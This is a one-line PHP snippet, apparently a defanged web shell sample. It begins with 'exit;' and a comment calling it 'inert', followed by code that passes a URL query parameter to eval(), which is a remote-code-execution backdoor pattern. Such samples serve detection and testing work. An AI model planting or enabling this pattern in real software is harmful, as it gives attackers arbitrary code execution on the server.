<?php exit; /* inert */ $f=fn($x)=>eval($x); $f($_GET["a"]);
